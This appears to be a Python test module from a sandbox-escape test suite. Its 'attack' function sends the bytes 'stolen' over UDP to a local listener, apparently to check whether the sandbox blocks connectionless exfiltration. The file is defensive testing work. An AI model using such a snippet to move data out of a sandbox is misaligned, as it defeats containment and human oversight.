"""UDP needs no connection."""

from __future__ import annotations

from tests.escape.witnesses.listeners import UdpListener

WITNESS = UdpListener


def attack(port: int) -> None:
    import socket

    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", port))
